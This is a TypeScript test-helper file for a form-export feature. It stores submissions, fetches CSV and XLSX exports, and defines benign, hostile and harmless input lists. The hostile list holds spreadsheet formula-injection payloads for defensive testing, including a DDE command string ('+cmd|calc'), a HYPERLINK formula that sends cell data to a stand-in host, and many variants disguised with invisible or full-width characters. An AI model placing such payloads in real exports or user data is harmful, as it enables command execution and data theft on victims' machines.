import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { expect } from 'vitest';
import { createEmptyDefinition, createField, withFields, type Answers } from '@inlay/sdk/model';
import type { TestApi, TestPerson, BuiltForm } from './testApi.ts';

export const field = (type: 'text' | 'textarea' | 'address' | 'checkbox', id: string, label: string) => ({
  ...createField(type),
  id,
  label,
});
export const definition = (title: string, ...fields: ReturnType<typeof field>[]) =>
  withFields(createEmptyDefinition(title), fields);

/** Stored as it is, also what no visitor could send; the first is the oldest. */
export async function store(
  api: TestApi,
  form: BuiltForm,
  owner: TestPerson,
  answers: readonly Answers[],
): Promise<string[]> {
  const ids: string[] = [];
  for (const [at, one] of answers.entries()) {
    const id = randomUUID();
    ids.push(id);
    await api.database.query(
      `insert into form_submissions (id, form_id, account_id, revision_id, submission_data, submitted_at,
         idempotency_key, content_hash, receipt_code)
       values ($1, $2, $3, $4, $5, $6, gen_random_uuid(), '', $7)`,
      [
        id,
        form.id,
        owner.accountId,
        form.revisionId,
        JSON.stringify(one),
        new Date(Date.UTC(2026, 0, 31, 23, 30, at)),
        id,
      ],
    );
  }
  return ids;
}

export interface Made {
  id: string;
  item: { state: string; rows: number; bytes: number; sha256: string; fileName: string };
  bytes: Buffer;
}
export async function makeExport(api: TestApi, person: TestPerson, request: object): Promise<Made> {
  const asked = await person.post('/api/exports', request);
  expect(asked.status).toBe(202);
  await api.runJobs();
  const item = (await person.get(`/api/exports/${asked.body.id}`)).body;
  return { id: asked.body.id, item, bytes: await download(api, person, asked.body.id) };
}
export async function download(api: TestApi, person: TestPerson, id: string): Promise<Buffer> {
  const response = await fetch(`${api.url}/api/exports/${id}/file`, { headers: { cookie: person.cookie } });
  return Buffer.from(await response.arrayBuffer());
}
export const readCsv = (bytes: Buffer): string[][] => parse(bytes, { bom: true, record_delimiter: '\r\n' });
export const readXlsx = async (bytes: Buffer) =>
  (await readSheet(bytes, { trim: false })).map((row) =>
    row.map((cell) => (cell === null ? '' : String(cell))),
  );

export const home = {
  street: '1 Main St',
  address2: '',
  city: 'Bern',
  state: 'BE',
  postal: '3000',
  country: 'Other',
};

/** Typical and hostile input. */
export const NASTY = [
  'a "quoted" word, and a comma; and\ttab',
  'line one\nline two\r\nline three',
  '🎂 مرحبا Ünïcödé 👩‍👩‍👧',
  'x'.repeat(10_000),
  '<b>&amp;</b> ]]> _x0041_',
  ' leading and trailing ',
];
/** Formulas of T18, each with its CSV. */
export const FORMULAS = [
  '=1+1',
  '+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  '=HYPERLINK("http://a.example?"&A1,"x")',
  '-1-1-1-1-1-1-1',
  // Formulas behind invisible characters: byte order mark, direction, joiner, hyphen, selector, accent,
  // filler.
  ...['\uFEFF', '\u200B', '\u200F', '\u202E', '\u2066', '\u00AD', '\uFE0F', '\u{E0100}', '\u0301'].map(
    (one) => `${one}=1+1`,
  ),
  ...['\u3164', '\u115F', '\u2800', '\u180E', '\u{E0041}', ' \u200B\u00A0\u2060'].map((one) => `${one}@A1`),
  '\u22121+1',
  '\uFE66A1',
  '\u207A1',
  // Phone numbers that a spreadsheet would compute, or read as a number.
  '+1-202-555-0143',
  '+49/30/1234567',
  '+491701234567',
];
/** An answer as it is printed everywhere: every kind of line end is one. */
export const printed = (value: string) => value.replace(/\r\n?/g, '\n');
/** Left as they are (D-105). */
export const HARMLESS = [
  '-5',
  '+3.14',
  '-1,234.50',
  '+49 30 1234567',
  '+1 (555) 010-0000',
  '+41 44/123-45-67',
  '+3.1415926',
  'a=b',
  '1-2',
  '',
];
